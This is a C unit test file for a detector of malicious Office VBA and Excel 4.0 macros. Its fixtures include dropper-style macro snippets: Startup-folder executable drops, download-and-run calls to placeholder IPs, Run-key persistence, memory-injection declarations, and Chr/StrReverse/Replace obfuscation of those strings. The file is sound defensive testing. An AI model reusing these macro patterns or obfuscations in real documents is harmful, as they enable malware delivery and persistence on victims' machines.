/*
 * test_vbascan.c - the macro judge: every auto-exec trigger with every
 * action it supports, plain and obfuscated each way the evaluator
 * folds, and the benign look-alikes that must stay `macros`.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "detect/vbascan.h"

/* The worst rule's id for one VBA module, or "clean". */
static const char *judge(const char *src)
{
    static char id[64];
    struct vbascan v;
    const struct vbs_rule *r[16];
    vbascan_init(&v);
    vbascan_vba(&v, src, strlen(src));
    size_t n = vbascan_rules(&v, r, 16);
    snprintf(id, sizeof(id), "%s", n ? r[0]->id : "clean");
    vbascan_free(&v);
    return id;
}

static enum vbs_verdict verdict(const char *src)
{
    struct vbascan v;
    vbascan_init(&v);
    vbascan_vba(&v, src, strlen(src));
    enum vbs_verdict r = vbascan_verdict(&v);
    vbascan_free(&v);
    return r;
}

static void rewrites(void **st)
{
    (void)st;
    static const struct { const char *in, *out; } cases[] = {
        { "CreateObject(Chr(87) & \"Script.Shell\")",
          "CreateObject(\"WScript.Shell\")" },
        { "x = Chr(65) + Chr(&H42) & ChrW(100 - 33)", "x = \"ABC\"" },
        { "a = StrReverse(\"exe.mwd\")", "a = \"dwm.exe\"" },
        { "a = Replace(\"wsXcrXipt\", \"X\", \"\")", "a = \"wscript\"" },
        { "p = Environ(\"APPDATA\") & \"\\x\"", "p = \"%APPDATA%\\x\"" },
        { "Shell \"a\"\"b\"", "Shell \"a\"\"b\"" },
        { "y = Chr(7 * 10 - 5) & Chr(200 \\ 2 Mod 97 + 63)",
          "y = \"AB\"" },
        { "z = foo(1) & \"k\"", "z = foo(1) & \"k\"" },
        { "q = \"unterminated", "q = \"unterminated" },
    };
    for(size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        struct vbascan v;
        vbascan_init(&v);
        char *r = vbascan_rewrite(&v, cases[i].in, strlen(cases[i].in));
        assert_non_null(r);
        assert_string_equal(r, cases[i].out);
        free(r);
        vbascan_free(&v);
    }
    /* a variable assigned, then used */
    struct vbascan v;
    vbascan_init(&v);
    const char *a = "s = \"WScr\" & \"ipt.Shell\"";
    free(vbascan_rewrite(&v, a, strlen(a)));
    const char *b = "Set o = CreateObject(s)";
    char *r = vbascan_rewrite(&v, b, strlen(b));
    assert_string_equal(r, "Set o = CreateObject(\"WScript.Shell\")");
    free(r);
    vbascan_free(&v);
}

/* Each trigger with the Flagpro drop, plain. */
static void triggers_with_startup_drop(void **st)
{
    (void)st;
    const char *trig[] = { "Workbook_Open", "Auto_Open", "AutoOpen",
                           "Document_Open", "DocumentOpen", "AutoExec",
                           "AutoClose", "Auto_Close", "Document_Close",
                           "Worksheet_Activate", "Frame1_Layout",
                           "UserForm_Resize", "TextBox1_GotFocus",
                           "InkPicture1_Painted" };
    for(size_t i = 0; i < sizeof(trig) / sizeof(trig[0]); i++) {
        char src[1024];
        snprintf(src, sizeof(src),
                 "Private Sub %s()\n"
                 "  p = Environ(\"APPDATA\") & \"\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\dwm.exe\"\n"
                 "  Open p For Binary Access Write As #1\n"
                 "  Put #1, , data\n"
                 "  Close #1\n"
                 "End Sub\n", trig[i]);
        assert_string_equal(judge(src), "doc.macro.startup_drop");
        struct vbascan v;
        vbascan_init(&v);
        vbascan_vba(&v, src, strlen(src));
        assert_true(vbascan_flagpro(&v));
        assert_int_equal(v.triggers.n, 1);
        assert_string_equal(v.triggers.v[0], trig[i]);
        vbascan_free(&v);
    }
}

/* The same drop, obfuscated in each way folded. */
static void obfuscated_startup_drop(void **st)
{
    (void)st;
    const char *srcs[] = {
        /* Chr chain */
        "Sub Workbook_Open()\n"
        "p = Environ(\"APPDATA\") & Chr(92) & Chr(77) & \"icrosoft\\Windows\\\" & "
        "Chr(83) & Chr(116) & Chr(97) & Chr(114) & Chr(116) & \" Menu\\Programs\\Startup\\\" & "
        "Chr(100) & Chr(119) & Chr(109) & Chr(46) & Chr(101) & Chr(120) & Chr(101)\n"
        "Open p For Binary As #1: Put #1, , b: Close #1\nEnd Sub\n",
        /* StrReverse, line continuation */
        "Sub Auto_Open()\n"
        "  d = StrReverse(\"exe.mwd\\putratS\\smargorP\\uneM tratS\\swodniW\\tfosorciM\\\")\n"
        "  f = Environ(\"APPDATA\") & _\n      \"\\\" & d\n"
        "  Open f For Binary As #2\nEnd Sub\n",
        /* Replace and concatenation with + */
        "Sub Document_Open()\n"
        "  Const k = \"\\Microsoft\\Windows\\Start Menu\\Programs\\Start##up\\\"\n"
        "  t = Environ$(\"APPDATA\") + Replace(k, \"##\", \"\") + \"dw\" + \"m.e\" + \"xe\"\n"
        "  Set s = CreateObject(\"ADODB.Stream\")\n"
        "  s.SaveToFile t, 2\nEnd Sub\n",
        /* SpecialFolders through WScript.Shell, FSO copy */
        "Sub AutoOpen()\n"
        "  Set w = CreateObject(\"WScript.Shell\")\n"
        "  Set fso = CreateObject(\"Scripting.FileSystemObject\")\n"
        "  fso.CopyFile \"C:\\Users\\Public\\a.tmp\", w.SpecialFolders(\"Startup\") & \"\\dwm.exe\"\n"
        "End Sub\n",
        /* path in a helper the evaluator cannot follow: a blind write */
        "Sub Workbook_Open()\n  Open GetPath() For Binary As #1\nEnd Sub\n"
        "Function GetPath()\n  GetPath = Environ(\"APPDATA\") & Mid(\"x\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\dwm.exe\", 2)\nEnd Function\n",
    };
    for(size_t i = 0; i < sizeof(srcs) / sizeof(srcs[0]); i++) {
        print_message("case %zu\n", i);
        assert_string_equal(judge(srcs[i]), "doc.macro.startup_drop");
        assert_int_equal(verdict(srcs[i]), VBS_MALICIOUS);
    }
}

/* Trigger x action (plain and folded). */
static void trigger_action_matrix(void **st)
{
    (void)st;
    static const struct { const char *body, *rule; } acts[] = {
        { "Open \"C:\\Users\\Public\\up.exe\" For Binary As #1",
          "doc.macro.exe_drop" },
        { "Set s = CreateObject(\"ADODB.Stream\"): s.SaveToFile \"C:\\t\\a.dll\", 2",
          "doc.macro.exe_drop" },
        { "Set x = CreateObject(\"MSXML2.XMLHTTP\"): x.Open \"GET\", \"http://198.51.100.7/p\", False: Shell \"cmd /c p\"",
          "doc.macro.download_exec" },
        { "Shell \"calc.exe\"", "doc.macro.exe_run" },
        { "CreateObject(Chr(87) & \"Script.Shell\").Run \"c:\\x\\y.bat\"",
          "doc.macro.exe_run" },
        { "Set o = GetObject(\"winmgmts:\").Get(\"Win32_Process\"): o.Create \"notepad\"",
          "doc.macro.autoexec_run" },
        { "x = \"powershell -enc AAAA\"", "doc.macro.autoexec_run" },
        { "Set ie = CreateObject(\"InternetExplorer.Application\")",
          "doc.macro.autoexec_download" },
        { "CallByName o, \"Run\", VbMethod", "doc.macro.autoexec_api" },
        { "CreateObject(\"WScript.Shell\").RegWrite \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\u\", \"x\"",
          "doc.macro.autorun_key" },
        { "Set x = CreateObject(\"Shell.Application\"): x.ShellExecute \"rundll32.exe\", \"a\"",
          "doc.macro.exe_run" },
        { "MacScript \"do shell script \"\"x\"\"\"", "doc.macro.autoexec_run" },
    };
    for(size_t i = 0; i < sizeof(acts) / sizeof(acts[0]); i++) {
        char src[1024];
        snprintf(src, sizeof(src), "Sub Workbook_Open()\n%s\nEnd Sub\n",
                 acts[i].body);
        print_message("action %zu\n", i);
        assert_string_equal(judge(src), acts[i].rule);
        /* the same without a trigger is never malicious */
        snprintf(src, sizeof(src), "Sub Button1_Click()\n%s\nEnd Sub\n",
                 acts[i].body);
        assert_true(verdict(src) <= VBS_SUSPICIOUS);
    }
    /* memory APIs */
    const char *inj =
        "Private Declare PtrSafe Function VirtualAlloc Lib \"kernel32\" (ByVal a As LongPtr, ByVal b As Long, ByVal c As Long, ByVal d As Long) As LongPtr\n"
        "Private Declare PtrSafe Function CreateThread Lib \"kernel32\" (ByVal a As Long) As LongPtr\n"
        "Sub AutoOpen()\n  r = VirtualAlloc(0, 4096, &H1000, &H40)\nEnd Sub\n";
    assert_string_equal(judge(inj), "doc.macro.injection");
}

/*
 * The product: trigger x action x obfuscation.  An action is VBA text
 * with its telling strings marked {like this}; each obfuscation rewrites
 * every marked string the way droppers do, and the verdict must not move.
 */
enum obf { OBF_PLAIN, OBF_CHR, OBF_STRREV, OBF_CONCAT, OBF_REPLACE,
           OBF_VAR, OBF_N };

static void emit_obf(char *out, size_t cap, const char *s, size_t n,
                     enum obf o, int *var, char *pre, size_t pcap)
{
    size_t k = strlen(out);
    switch(o) {
    case OBF_PLAIN:
        k += (size_t)snprintf(out + k, cap - k, "\"%.*s\"", (int)n, s);
        break;
    case OBF_CHR:
        for(size_t i = 0; i < n; i++)
            k += (size_t)snprintf(out + k, cap - k, "%sChrW(%d + %d)",
                                  i ? " & " : "", (unsigned char)s[i] - 7, 7);
        if(!n)
            k += (size_t)snprintf(out + k, cap - k, "\"\"");
        break;
    case OBF_STRREV:
        k += (size_t)snprintf(out + k, cap - k, "StrReverse(\"");
        for(size_t i = n; i > 0; i--)
            out[k++] = s[i - 1];
        out[k] = 0;
        k += (size_t)snprintf(out + k, cap - k, "\")");
        break;
    case OBF_CONCAT:
        for(size_t i = 0; i < n; i += 3)
            k += (size_t)snprintf(out + k, cap - k, "%s\"%.*s\"",
                                  i ? " + " : "", (int)(n - i < 3 ? n - i : 3),
                                  s + i);
        break;
    case OBF_REPLACE:
        k += (size_t)snprintf(out + k, cap - k, "Replace(\"");
        for(size_t i = 0; i < n; i++) {
            out[k++] = s[i];
            if(i % 2) {
                memcpy(out + k, "%~", 2);
                k += 2;
            }
        }
        out[k] = 0;
        k += (size_t)snprintf(out + k, cap - k, "\", \"%%~\", \"\")");
        break;
    default: {      /* a constant assigned first */
        size_t pk = strlen(pre);
        snprintf(pre + pk, pcap - pk, "  Const k%d = \"%.*s\"\n", *var,
                 (int)n, s);
        k += (size_t)snprintf(out + k, cap - k, "k%d", (*var)++);
        break;
    }
    }
}

static void expand(const char *body, enum obf o, char *out, size_t cap,
                   char *pre, size_t pcap)
{
    int var = 0;
    out[0] = 0;
    pre[0] = 0;
    for(const char *p = body; *p;) {
        if(*p == '{') {
            const char *e = strchr(p, '}');
            emit_obf(out, cap, p + 1, (size_t)(e - p - 1), o, &var, pre, pcap);
            p = e + 1;
        } else {
            size_t k = strlen(out);
            out[k] = *p++;
            out[k + 1] = 0;
        }
    }
}

static void matrix(void **st)
{
    (void)st;
    const char *trig[] = { "Workbook_Open", "Auto_Open", "AutoOpen",
        "Document_Open", "DocumentOpen", "AutoExec", "AutoClose",
        "Auto_Close", "Document_Close", "Workbook_Activate",
        "MultiPage1_Layout", "Frame1_Resize", "TextBox1_GotFocus",
        "InkPicture1_Painted" };
    static const struct { const char *body, *rule; } acts[] = {
        { "  p = Environ({APPDATA}) & {\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\dwm.exe}\n"
          "  Open p For Binary Access Write As #1\n  Put #1, , b\n",
          "doc.macro.startup_drop" },
        { "  Set s = CreateObject({ADODB.Stream})\n"
          "  s.SaveToFile Environ({TEMP}) & {\\upd.exe}, 2\n",
          "doc.macro.exe_drop" },
        { "  Set f = CreateObject({Scripting.FileSystemObject})\n"
          "  f.CopyFile {C:\\a.tmp}, {C:\\Users\\Public\\b.scr}\n",
          "doc.macro.exe_drop" },
        { "  Set x = CreateObject({MSXML2.ServerXMLHTTP})\n"
          "  x.Open {GET}, {http://192.0.2.8/q}, False\n"
          "  Shell {cmd /c start q}\n", "doc.macro.download_exec" },
        { "  Set x = CreateObject({WinHttp.WinHttpRequest.5.1})\n"
          "  CreateObject({WScript.Shell}).Run {powershell -w hidden x}\n",
          "doc.macro.download_exec" },
        { "  Shell {C:\\Users\\Public\\x.exe}, 0\n", "doc.macro.exe_run" },
        { "  CreateObject({WScript.Shell}).Exec {mshta.exe http://x/y}\n",
          "doc.macro.exe_run" },
        { "  Set o = CreateObject({InternetExplorer.Application})\n",
          "doc.macro.autoexec_download" },
        { "  x = {powershell -nop -enc SQBFAFgA}\n",
          "doc.macro.autoexec_run" },
        { "  Set w = GetObject({winmgmts:}).Get({Win32_Process})\n"
          "  w.Create {notepad}\n", "doc.macro.autoexec_run" },
    };
    static const char *const obf_names[] = { "plain", "chr", "strrev",
        "concat", "replace", "const" };
    char body[8192], pre[4096], src[16384];
    for(size_t t = 0; t < sizeof(trig) / sizeof(trig[0]); t++)
        for(size_t a = 0; a < sizeof(acts) / sizeof(acts[0]); a++)
            for(int o = 0; o < OBF_N; o++) {
                expand(acts[a].body, (enum obf)o, body, sizeof(body), pre,
                       sizeof(pre));
                snprintf(src, sizeof(src), "Sub %s()\n%s%sEnd Sub\n",
                         trig[t], pre, body);
                const char *got = judge(src);
                if(getenv("VBS_SHOW") && t == 0)
                    print_message("%s", src);
                if(strcmp(got, acts[a].rule))
                    print_error("%s x action %zu x %s: %s\n%s\n", trig[t], a,
                                obf_names[o], got, src);
                assert_string_equal(got, acts[a].rule);
            }
}

static void benign_macros(void **st)
{
    (void)st;
    const char *srcs[] = {
        /* formatting */
        "Sub FormatReport()\n  Range(\"A1:D1\").Font.Bold = True\n"
        "  Columns(\"A:D\").AutoFit\nEnd Sub\n",
        /* sums and a message box on open */
        "Private Sub Workbook_Open()\n  MsgBox \"Total: \" & Application.Sum(Range(\"B2:B99\"))\nEnd Sub\n",
        /* a change handler */
        "Private Sub Worksheet_Change(ByVal Target As Range)\n"
        "  If Target.Column = 2 Then Target.Offset(0, 1).Value = Now\nEnd Sub\n",
        /* CSV export on open */
        "Sub Workbook_Open()\n  f = ThisWorkbook.Path & \"\\export.csv\"\n"
        "  Open f For Output As #1\n  Print #1, \"a,b,c\"\n  Close #1\nEnd Sub\n",
        /* a click handler and the word run */
        "Sub RunButton_Click()\n  ' run the report\n  Application.Run \"Report\"\n"
        "  MsgBox \"Run finished\"\nEnd Sub\n",
        /* comments that look dangerous */
        "Sub Workbook_Open()\n  ' Shell \"calc.exe\"\n  Rem CreateObject(\"WScript.Shell\").Run \"x.exe\"\n"
        "  x = 1 ' URLDownloadToFile\nEnd Sub\n",
        /* GUID hex noise */
        "Sub Workbook_Open()\n  g = \"{3F2504E0-4F89-11D3-9A0C-0305E82C3301}\"\n"
        "  h = \"{3F2504E0-4F89-11D3-9A0C-0305E82C3302}{3F2504E0-4F89-11D3-9A0C-0305E82C3303}\"\nEnd Sub\n",
        /* reading a file */
        "Sub Workbook_Open()\n  Open \"C:\\data\\in.txt\" For Input As #1\n  Close #1\nEnd Sub\n",
        /* a string with shell in it */
        "Sub Workbook_Open()\n  MsgBox \"Open the Shell menu and run setup.exe\"\nEnd Sub\n",
    };
    for(size_t i = 0; i < sizeof(srcs) / sizeof(srcs[0]); i++) {
        print_message("benign %zu\n", i);
        assert_string_equal(judge(srcs[i]), "doc.macro.present");
    }
    assert_string_equal(judge(""), "clean");
    assert_string_equal(judge("' only a comment\n"), "clean");
}

static void obfuscation_alone(void **st)
{
    (void)st;
    char src[8192] = "Sub Foo()\n x = ";
    for(int i = 0; i < 30; i++)
        strcat(src, "Chr(65) & ");
    strcat(src, "\"\"\n y = \"");
    for(int i = 0; i < 30; i++)
        strcat(src, "QUJDRGVmZ2gxMjM0");
    strcat(src, "\"\nEnd Sub\n");
    assert_string_equal(judge(src), "doc.macro.obfuscated");

    /* line breaks and quotes by Chr, many times over: benign */
    char ok[16384] = "Sub Report()\n";
    for(int i = 0; i < 60; i++)
        strcat(ok, " msg = msg & \"line\" & Chr(13) & Chr(10) & Chr(34) & \"q\" & Chr(34)\n");
    strcat(ok, " MsgBox msg\nEnd Sub\n");
    assert_string_equal(judge(ok), "doc.macro.present");
}

static void xlm(void **st)
{
    (void)st;
    struct vbascan v;
    const struct vbs_rule *r[8];
    vbascan_init(&v);
    const char *f = "=EXEC(\"calc.exe\")\n=HALT()\n";
    vbascan_xlm(&v, f, strlen(f));
    assert_int_equal(vbascan_verdict(&v), VBS_MACROS);  /* no trigger */
    vbascan_xlm_auto(&v, "Auto_Open");
    assert_int_equal(vbascan_rules(&v, r, 8) > 0, 1);
    assert_string_equal(r[0]->id, "doc.macro.exe_run");
    vbascan_free(&v);

    vbascan_init(&v);
    f = "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://203.0.113.9/a\",\"c:\\x\\a.dll\",0,0)\n"
        "=EXEC(CHAR(114)&\"undll32 c:\\x\\a.dll,Go\")\n";
    vbascan_xlm(&v, f, strlen(f));
    vbascan_xlm_auto(&v, "_xlnm.Auto_Open");
    assert_int_equal(vbascan_rules(&v, r, 8) > 0, 1);
    assert_string_equal(r[0]->id, "doc.macro.download_exec");
    bool url = false;
    for(size_t i = 0; i < v.iocs.n; i++)
        url |= !strcmp(v.iocs.v[i], "http://203.0.113.9/a");
    assert_true(url);
    vbascan_free(&v);
}

static void iocs(void **st)
{
    (void)st;
    struct vbascan v;
    vbascan_init(&v);
    const char *s = "Sub Foo()\n u = \"ht\" & \"tp://evil.example/x.ps1\"\n"
                    " i = \"10.1.2.3\"\n v = \"1.2.3.4.5\"\n"
                    " n = \"C:\\t\\dwm.exe\"\nEnd Sub\n";
    vbascan_vba(&v, s, strlen(s));
    const char *want[] = { "http://evil.example/x.ps1", "evil.example",
                           "x.ps1", "10.1.2.3", "dwm.exe" };
    for(size_t k = 0; k < 5; k++) {
        bool found = false;
        for(size_t i = 0; i < v.iocs.n; i++)
            found |= !strcmp(v.iocs.v[i], want[k]);
        print_message("%s\n", want[k]);
        assert_true(found);
    }
    for(size_t i = 0; i < v.iocs.n; i++)
        assert_string_not_equal(v.iocs.v[i], "1.2.3.4");
    vbascan_free(&v);
}

static void bounded(void **st)
{
    (void)st;
    /* a huge concatenation and deep parentheses stay bounded */
    size_t n = 1u << 20;
    char *src = malloc(n + 64);
    assert_non_null(src);
    strcpy(src, "x = ");
    size_t k = 4;
    while(k + 8 < n) {
        memcpy(src + k, "\"a\" & ", 6);
        k += 6;
    }
    src[k++] = '1';
    src[k] = 0;
    assert_true(verdict(src) >= VBS_MACROS);
    memset(src, '(', n);
    src[n] = 0;
    assert_true(verdict(src) >= VBS_MACROS);
    free(src);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(rewrites),
        cmocka_unit_test(triggers_with_startup_drop),
        cmocka_unit_test(obfuscated_startup_drop),
        cmocka_unit_test(trigger_action_matrix),
        cmocka_unit_test(matrix),
        cmocka_unit_test(benign_macros),
        cmocka_unit_test(obfuscation_alone),
        cmocka_unit_test(xlm),
        cmocka_unit_test(iocs),
        cmocka_unit_test(bounded),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
